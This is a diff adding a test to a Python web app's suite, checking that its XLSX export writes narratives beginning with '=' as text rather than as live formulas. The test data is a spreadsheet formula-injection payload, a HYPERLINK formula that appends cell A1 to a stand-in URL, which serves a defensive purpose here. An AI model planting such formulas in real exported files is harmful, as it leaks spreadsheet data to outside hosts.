@@ -264,3 +264,24 @@ def test_import_is_for_coordinators_export_for_members(world: World, client_for:
     assert client_for("council_a").get(url(world, "xlsx_export")).status_code == 200
     assert client_for("coordinator_b").get(url(world, "xlsx_export")).status_code == 403
     assert client_for("anonymous").get(url(world, "xlsx_export")).status_code == 302
+
+
+def test_export_writes_texts_as_texts_never_as_formulas(world: World, client_for: Any) -> None:
+    """A report (e.g. from a survey answer) starting with ``=`` must not become a formula
+    that runs in the coordinator's Excel; the round trip keeps the text."""
+    formula = '=HYPERLINK("https://example.org/?q="&A1,"Details")'
+    services.progress_record(
+        user=world.users["coordinator_a"],
+        measure=world.a.items["measure"],
+        date=timezone.localdate() - datetime.timedelta(days=3),
+        status=status(world, "in_progress"),
+        percent=40,
+        narrative=formula,
+    )
+    client = client_for("coordinator_a")
+    sheet = exported(world, client).worksheets[0]
+    assert sheet["H2"].data_type == "s"
+    assert sheet["H2"].value == formula
+    # read back unchanged: nothing to import
+    plan = xlsx.xlsx_parse(edition=world.a.in_force, data=to_bytes(sheet.parent))
+    assert plan.changes == [] and plan.unchanged == 1
